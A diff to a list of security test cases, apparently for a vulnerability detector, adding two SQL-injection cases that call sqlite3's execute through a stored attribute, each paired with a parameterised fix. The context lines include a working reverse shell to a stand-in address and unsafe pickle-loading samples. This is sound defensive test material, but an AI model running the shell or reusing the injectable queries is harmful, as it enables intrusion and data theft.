@@ -122,6 +122,8 @@ CASES: list[Case] = [
     ('a reverse shell', SHELL, "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nfor i in range(3):\n    os.dup2(s.fileno(), i)\npty.spawn('/bin/sh')\n", "import os, sys\nwith open('log.txt', 'w') as log:\n    os.dup2(log.fileno(), 1)\n    os.dup2(log.fileno(), 2)\n"),
     ('a listener that unpickles', LOADING, "from multiprocessing.connection import Listener\ndef f():\n    with Listener(('0.0.0.0', 9001)) as l, l.accept() as c:\n        return c.recv()\n", "from multiprocessing.connection import Listener\ndef f():\n    with Listener(('0.0.0.0', 9001)) as l, l.accept() as c:\n        return c.recv_bytes()\n"),
     ('a partial of a loader', LOADING, 'import numpy as np\nfrom functools import partial\nload = partial(np.load, allow_pickle=True)\ndef f(x):\n    return load(x)\n', 'import numpy as np\nfrom functools import partial\nload = partial(np.load, allow_pickle=False)\ndef f(x):\n    return load(x)\n'),
+    ('a method of a connection, kept in an attribute of a new object', QUERY, "import sqlite3\nclass Q:\n    def __init__(self):\n        self.q = sqlite3.connect('a.db').execute\ndef f(x):\n    Q().q('select * from t where n = ' + x)\n", "import sqlite3\nclass Q:\n    def __init__(self):\n        self.q = sqlite3.connect('a.db').execute\ndef f(x):\n    Q().q('select * from t where n = ?', (x,))\n"),
+    ('a method of a connection, kept in a class', QUERY, "import sqlite3\nclass Q:\n    go = sqlite3.connect('a.db').execute\ndef f(x):\n    Q.go('select * from t where n = ' + x)\n", "import sqlite3\nclass Q:\n    go = sqlite3.connect('a.db').execute\ndef f(x):\n    Q.go('select * from t where n = ?', (x,))\n"),
 ]  # fmt: skip
 
 
